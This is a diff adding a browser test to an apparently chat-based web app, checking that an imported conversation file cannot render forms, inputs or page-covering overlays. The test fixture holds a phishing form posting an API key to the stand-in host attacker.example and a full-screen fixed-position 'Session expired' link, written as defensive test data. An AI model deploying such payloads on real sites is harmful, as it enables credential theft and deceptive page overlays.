@@ -317,6 +317,59 @@ def test_a_forged_import_is_refused(
     assert provider.requests == []
 
 
+def test_an_imported_conversation_is_shown_without_forms_inputs_or_positioned_overlays(
+    byo_app: RunningApp, provider: FakeProvider, tabs: Callable[[str], ChatPage], tmp_path: Path
+) -> None:
+    """A saved chat is a file anyone can hand a visitor: what it holds is shown as a reply would
+    be, so it can neither draw over the page nor ask for anything in a form of its own."""
+    chat = tabs(byo_app.url)
+    page = chat.page
+    crafted = tmp_path / "crafted.json"
+    cover = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white"
+    crafted.write_text(
+        json.dumps(
+            {
+                "messages": [
+                    {
+                        "role": "user",
+                        "content": 'Look: <form action="https://attacker.example/steal" method="post">'
+                        '<input name="key" placeholder="Paste your API key"><button>Send</button></form>',
+                    },
+                    {
+                        "role": "assistant",
+                        "content": f'<a href="/byok/logout" style="{cover}">Session expired</a> '
+                        '<div style="position:absolute;inset:0">covered</div> and the answer.',
+                    },
+                ]
+            }
+        )
+    )
+    open_conversation_panel(page)
+
+    upload(page, crafted)
+
+    expect(page.locator(BOT)).to_contain_text(["Session expired"], timeout=WAIT_MS)
+    expect(page.locator(USER)).to_contain_text(["Look:"])
+    bubbles = f"{USER}, {BOT}"
+    assert page.locator(bubbles).locator("form, input, textarea, select").count() == 0
+    assert page.locator(bubbles).locator('[style*="position"]').count() == 0
+    link = page.locator(BOT).get_by_text("Session expired")
+    box = link.bounding_box()
+    viewport = page.viewport_size
+    assert box is not None and viewport is not None
+    # Laid out as text in the bubble, not stretched over the window.
+    assert box["width"] < viewport["width"] / 2 and box["height"] < viewport["height"] / 4
+    # The chat box is still the topmost thing where it sits: nothing was drawn over it.
+    textbox = page.locator('textarea[data-testid="textbox"]').bounding_box()
+    assert textbox is not None
+    covering = page.evaluate(
+        "([x, y]) => document.elementFromPoint(x, y)?.closest('textarea,[data-testid=\"textbox\"]') !== null",
+        [textbox["x"] + textbox["width"] / 2, textbox["y"] + textbox["height"] / 2],
+    )
+    assert covering
+    assert provider.requests == []
+
+
 # --- Starter prompts ------------------------------------------------------------------------------
 
 
